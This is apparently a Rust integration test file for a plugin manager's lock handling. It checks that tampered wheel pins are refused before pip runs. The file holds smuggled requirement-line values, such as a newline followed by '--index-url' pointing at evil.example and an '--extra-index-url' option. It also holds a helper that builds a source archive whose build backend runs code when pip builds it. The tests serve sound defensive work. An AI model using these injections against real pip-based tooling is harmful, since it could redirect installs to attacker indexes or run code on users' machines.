//! A hostile lock's wheel pins (`deps` of a protoAgent row): each field becomes part of a
//! line of the requirements file pip reads, so a lock from a pull request or a bundle could
//! send pip to another index or make it build (run) a source archive. Every such lock is
//! refused when it is read, by `sync`, `sync --frozen`, `sync --frozen --from` and `bundle`:
//! the index the attack names is never asked, and the archive's build never runs.

use std::path::Path;

use snapbox::str;

use crate::support::net::FileServer;
use crate::support::pinned::{code_of, files, fresh, origin, plugins_in};

/// An sdist `evilpkg-1.tar.gz` in `dir` whose in-tree build backend writes `marker` when pip
/// imports it (it needs nothing from an index, so pip would build it offline); returns its
/// sha256.
fn evil_sdist(py: &Path, dir: &Path, marker: &Path) -> String {
    std::fs::create_dir_all(dir).unwrap();
    let script = r#"import hashlib, io, os, sys, tarfile
marker = sys.argv[1]
files = {
    "evilpkg-1/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evilbackend"\nbackend-path = ["."]\n',
    "evilpkg-1/evilbackend.py": f"open({marker!r}, 'w').write('built')\n",
    "evilpkg-1/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1\n",
}
with tarfile.open("evilpkg-1.tar.gz", "w:gz") as t:
    for name, text in files.items():
        data = text.encode()
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
print(hashlib.sha256(open("evilpkg-1.tar.gz", "rb").read()).hexdigest())
"#;
    crate::support::python_script(py, script, &[marker.as_os_str()], dir)
        .trim()
        .to_owned()
}

#[test]
fn a_lock_whose_pins_are_pip_syntax_is_refused_before_pip_runs() {
    let Some(py) = crate::support::hosts::host_python() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path().canonicalize().unwrap();
    let (index, _served, lock, daemon) = origin(&t, &py);
    let base = format!("git://127.0.0.1:{}", daemon.port);
    let env = [("PLUGINS_GH_BASE", base.as_str())];
    let marker = t.join("BUILT");
    let evil = FileServer::start(&t.join("evil"));
    let sha = evil_sdist(&py, &t.join("evil"), &marker);
    // A good bundle of the good lock, for `sync --frozen --from`.
    let bundle = t.join("good.tar");
    plugins_in(
        &t.join("origin"),
        &index,
        &py,
        &env,
        &[
            "bundle",
            "-o",
            bundle.to_str().unwrap(),
            "--python",
            py.to_str().unwrap(),
        ],
    )
    .redact("[TMP]", &t)
    .redact("[BASE]", &base)
    .expect(0, str![[r#"
     Bundled 1 plugin (7680 bytes) into [TMP]/good.tar

"#]], str![[r#"
    Fetching [BASE]/acme/deppy.git
warning[plugins::git::cleartext]: [BASE]/acme/deppy.git is fetched unencrypted: anyone on the network path can read or change the plugin; use an https:// URL
     Fetched 4dbdf475ceca
    Building step 1/1: [PYTHON] -m pip download --disable-pip-version-check --no-input --no-deps --require-hashes --only-binary :all: -d . -r requirements.txt

"#]]);

    // The consent of a sync that installs pins lists them (`wheels:`).
    let home = fresh(&t.join("good"), &lock);
    plugins_in(&home, &index, &py, &env, &["sync", "--yes"])
        .redact("[BASE]", &base)
        .expect(0, str![[r#"
      Synced deppy 1.0.0

"#]], str![[r#"
    Fetching [BASE]/acme/deppy.git
warning[plugins::git::cleartext]: [BASE]/acme/deppy.git is fetched unencrypted: anyone on the network path can read or change the plugin; use an https:// URL
     Fetched 4dbdf475ceca
protoagent plugin `deppy` 1.0.0 from gh:acme/deppy @ 4dbdf475ceca
  capabilities: none
  build steps:  none
  pip:          demolib
  wheels:       demolib==1.0.0 (as the lock pins them)
  runs code inside the host process
    Building step 1/1: [PYTHON] -m pip install --disable-pip-version-check --no-input --only-binary :all: --no-deps --no-compile --require-hashes --target deps -r deps-requirements.txt

"#]]);

    let value: serde_json::Value = serde_json::from_str(&lock).unwrap();
    let good_sha = value["plugins"][0]["deps"][0]["sha256"]
        .as_str()
        .unwrap()
        .to_owned();
    let url = format!("{}/evilpkg-1.tar.gz", evil.base);
    let attacks: Vec<(&str, &str, String)> = vec![
        (
            "another index",
            "sha256",
            format!("{good_sha}\n--index-url {}/simple/", evil.base),
        ),
        (
            "a source archive to build",
            "name",
            format!("evilpkg @ {url} --hash=sha256:{sha} #"),
        ),
        (
            "an option",
            "name",
            format!("--extra-index-url={}/simple/", evil.base),
        ),
        (
            "a marker",
            "version",
            "1.0.0 ; python_version > '0'".to_owned(),
        ),
        ("a comment", "version", "1.0.0 # x".to_owned()),
        ("a newline", "version", format!("1.0.0\nevilpkg @ {url}")),
        ("a list", "sha256", "[]".to_owned()),
    ];
    for (what, field, text) in &attacks {
        let mut v = value.clone();
        v["plugins"][0]["deps"][0][*field] = if *what == "a list" {
            serde_json::json!([])
        } else {
            serde_json::Value::String(text.clone())
        };
        let edited = serde_json::to_string_pretty(&v).unwrap();
        let bundle_to = t.join(format!("out-{}.tar", what.replace(' ', "-")));
        let commands: [&[&str]; 4] = [
            &["sync", "--yes"],
            &["sync", "--frozen", "--yes"],
            &[
                "sync",
                "--frozen",
                "--yes",
                "--from",
                bundle.to_str().unwrap(),
            ],
            &["bundle", "-o", bundle_to.to_str().unwrap()],
        ];
        for (n, args) in commands.into_iter().enumerate() {
            let home = fresh(&t.join(format!("h/{what}/{n}")), &edited);
            // What the user sees is the snapshot below, for the first attack.
            // parts: 28 runs (seven attacks by four commands), each judged by its error code.
            let (code, o, e) = plugins_in(&home, &index, &py, &env, args).parts();
            assert_eq!(code, 2, "{what}, {args:?}: {o}{e}");
            assert_eq!(
                code_of(&e),
                "plugins::lock::bad_pin",
                "{what}, {args:?}: {e}"
            );
            assert!(files(&home).is_empty(), "{what}, {args:?}");
            assert_eq!(
                std::fs::read_to_string(home.join("plugins.lock")).unwrap(),
                edited,
                "{what}, {args:?}"
            );
            assert!(!bundle_to.exists(), "{what}, {args:?}");
        }
    }
    assert_eq!(
        evil.requests(),
        Vec::<String>::new(),
        "the attack's index was asked"
    );
    assert!(!marker.exists(), "pip built the attack's source archive");

    // What the user sees, for the first attack.
    let mut v = value.clone();
    v["plugins"][0]["deps"][0]["sha256"] =
        format!("{good_sha}\n--index-url http://evil.example/simple/").into();
    let home = fresh(&t.join("shown"), &serde_json::to_string_pretty(&v).unwrap());
    crate::support::Plugins::new()
        .args(["sync", "--yes", "--home"])
        .arg(&home)
        .env_remove("PLUGINS_HOME")
        .env("NO_COLOR", "1")
        .env("COLUMNS", "100")
        .run()
        .redact("[HOME]", &home)
        .redact("[SHA]", &good_sha)
        .expect(
            2,
            "",
            str![[r#"
plugins::lock::bad_pin

  × [HOME]/plugins.lock: the entry "deppy" pins a wheel that cannot be one
  │ (deps[0]): the sha256
  │ "[SHA]\n--index-url
  │ http://evil.example/simple/" is not 64 lower-case hex digits
  help: nothing was installed or run for it: a pin reaches pip as a requirement line, so it is
        only ever a name, a version and a sha256; if the lock came from elsewhere (a pull request,
        a bundle), do not use it; else remove the `deps` of deppy
        from [HOME]/plugins.lock and run `plugins install --deps` again

"#]],
        );
}

/// Pins (of a real wheel, in the index pip reads) for a plugin whose manifest asks for no
/// pip requirement at all are refused: the lock cannot add wheels the code never asked for.
#[test]
fn pins_for_a_plugin_without_requirements_are_refused() {
    let Some(py) = crate::support::hosts::host_python() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path().canonicalize().unwrap();
    let (index, _served, lock, daemon) = origin(&t, &py);
    let base = format!("git://127.0.0.1:{}", daemon.port);
    let env = [("PLUGINS_GH_BASE", base.as_str())];
    // The same plugin at a commit whose manifest has no requires_pip, locked with the pins.
    let repo = crate::support::git::Repo::init(&t.join("src"));
    repo.file(
        "protoagent.plugin.yaml",
        "id: deppy\nname: Deppy\nversion: 1.0.1\n",
    )
    .file("__init__.py", "def register(registry):\n    pass\n");
    repo.commit("v1.0.1 without requirements");
    crate::support::git::git(&repo.dir, &["tag", "v1.0.1"]);
    crate::support::git::git(
        &repo.dir,
        &[
            "push",
            "-q",
            t.join("served/acme/deppy.git").to_str().unwrap(),
            "v1.0.1",
        ],
    );
    let home = t.join("plain");
    crate::support::protoagent::instance(&home, None);
    plugins_in(
        &home,
        &index,
        &py,
        &env,
        &[
            "install",
            "gh:acme/deppy@v1.0.1",
            "--yes",
            "--host-version",
            "0.218.1",
        ],
    )
    .redact("[BASE]", &base)
    .expect(0, str![[r#"
   Installed deppy 1.0.1 @ cf63fed0ac in [HOME]/plugins/deppy

"#]], str![[r#"
    Fetching [BASE]/acme/deppy.git
warning[plugins::git::cleartext]: [BASE]/acme/deppy.git is fetched unencrypted: anyone on the network path can read or change the plugin; use an https:// URL
     Fetched cf63fed0acd4
protoagent plugin `deppy` 1.0.1 from gh:acme/deppy @ cf63fed0acd4
  capabilities: none
  build steps:  none
  runs code inside the host process

"#]]);
    let mut plain: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(home.join("plugins.lock")).unwrap()).unwrap();
    let pinned: serde_json::Value = serde_json::from_str(&lock).unwrap();
    plain["plugins"][0]["deps"] = pinned["plugins"][0]["deps"].clone();
    let edited = serde_json::to_string_pretty(&plain).unwrap();
    let out = t.join("stray.tar");
    let commands: [(&[&str], snapbox::data::Inline); 3] = [
        (
            &["sync", "--yes"],
            str![[r#"
    Fetching [BASE]/acme/deppy.git
warning[plugins::git::cleartext]: [BASE]/acme/deppy.git is fetched unencrypted: anyone on the network path can read or change the plugin; use an https:// URL
     Fetched cf63fed0acd4
plugins::lock::stray_pins

  × deppy: the lock pins the wheels demolib==1.0.0 but the plugin's manifest has no requires_pip; nothing was installed or written
  help: if the lock came from elsewhere (a pull request, a bundle), do not use it; else remove deppy's `deps` from the lock

"#]],
        ),
        (
            &["sync", "--frozen", "--yes"],
            str![[r#"
    Fetching [BASE]/acme/deppy.git
warning[plugins::git::cleartext]: [BASE]/acme/deppy.git is fetched unencrypted: anyone on the network path can read or change the plugin; use an https:// URL
     Fetched cf63fed0acd4
plugins::lock::stray_pins

  × deppy: the lock pins the wheels demolib==1.0.0 but the plugin's manifest has no requires_pip; nothing was installed or written
  help: if the lock came from elsewhere (a pull request, a bundle), do not use it; else remove deppy's `deps` from the lock

"#]],
        ),
        (
            &["bundle", "-o", out.to_str().unwrap()],
            str![[r#"
    Fetching [BASE]/acme/deppy.git
warning[plugins::git::cleartext]: [BASE]/acme/deppy.git is fetched unencrypted: anyone on the network path can read or change the plugin; use an https:// URL
     Fetched cf63fed0acd4
plugins::lock::stray_pins

  × deppy: the lock pins the wheels demolib==1.0.0 but the plugin's manifest has no requires_pip; nothing was installed or written
  help: if the lock came from elsewhere (a pull request, a bundle), do not use it; else remove deppy's `deps` from the lock

"#]],
        ),
    ];
    for (n, (args, stderr)) in commands.into_iter().enumerate() {
        let home = fresh(&t.join(format!("stray/{n}")), &edited);
        plugins_in(&home, &index, &py, &env, args)
            .redact("[BASE]", &base)
            .expect(2, "", stderr);
        assert!(files(&home).is_empty(), "{args:?}");
        assert!(!out.exists(), "{args:?}");
    }
}
